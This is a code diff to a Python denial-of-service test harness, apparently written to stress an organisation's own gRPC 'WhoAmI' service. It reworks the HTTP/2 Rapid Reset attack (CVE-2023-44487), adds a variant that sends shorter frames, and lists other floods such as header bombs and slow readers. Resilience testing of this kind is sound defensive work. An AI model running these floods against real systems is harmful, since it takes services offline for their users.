@@ -22,25 +22,32 @@ CANCEL = 8
 
 
 def rapid_reset(address, _):
-    """1,000 streams of a stranger that are opened and reset at once (CVE-2023-44487)."""
-    resets(address, None, 1000)
+    """1,000 streams of a stranger that are opened and reset at once (CVE-2023-44487), in 28 bytes each."""
+    with Connection(address) as connection:
+        resets(connection, 1000, connection.fields_of)
 
 
 def rapid_reset_by_user(address, credential):
-    """20,000 such streams of a user."""
-    resets(address, credential, 20_000)
-
-
-def resets(address, credential, streams):
+    """20,000 streams of a user that are opened and reset at once, in 160 bytes each."""
     with Connection(address, credential) as connection:
-        for _ in range(streams // 50):
-            burst = b""
-            for _ in range(50):
-                stream = connection.stream()
-                burst += frame(HEADERS, END_HEADERS, stream, connection.fields_of("dp.v1.Access/WhoAmI"))
-                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
-            if not connection.send(burst):
-                return
+        resets(connection, 20_000, http2.call_fields)
+
+
+def short_resets_by_user(address, credential):
+    """The same in 28 bytes each."""
+    with Connection(address, credential) as connection:
+        resets(connection, 20_000, connection.fields_of)
+
+
+def resets(connection, streams, fields_of):
+    for _ in range(streams // 50):
+        burst = b""
+        for _ in range(50):
+            stream = connection.stream()
+            burst += frame(HEADERS, END_HEADERS, stream, fields_of("dp.v1.Access/WhoAmI"))
+            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
+        if not connection.send(burst):
+            return
 
 
 def hoarded_calls(address, _):
@@ -61,7 +68,7 @@ def unread_answers(address, credential):
     """Up to 100,000 small calls of a user on each of four connections, of which no answer is read."""
     with contextlib.ExitStack() as connections:
         for _ in range(4):
-            connection = connections.enter_context(Connection(address, credential, buffer=4096, timeout_s=2))
+            connection = connections.enter_context(Connection(address, credential, unread=2048, timeout_s=2))
             for _ in range(1000):
                 burst = b""
                 for _ in range(100):
@@ -191,8 +198,8 @@ def bad_tokens(address, _):
 
 
 ATTACKS = {attack.__name__: attack for attack in (
-    rapid_reset, rapid_reset_by_user, hoarded_calls, large_headers, header_bomb, endless_headers, pings, slow_readers,
-    unread_answers, large_messages, silent_connections, half_handshakes, handshakes, flood, bad_tokens)}
+    rapid_reset, rapid_reset_by_user, short_resets_by_user, hoarded_calls, large_headers, header_bomb, endless_headers,
+    pings, slow_readers, unread_answers, large_messages, silent_connections, half_handshakes, handshakes, flood, bad_tokens)}
 
 
 def main(name, address, credential=None):
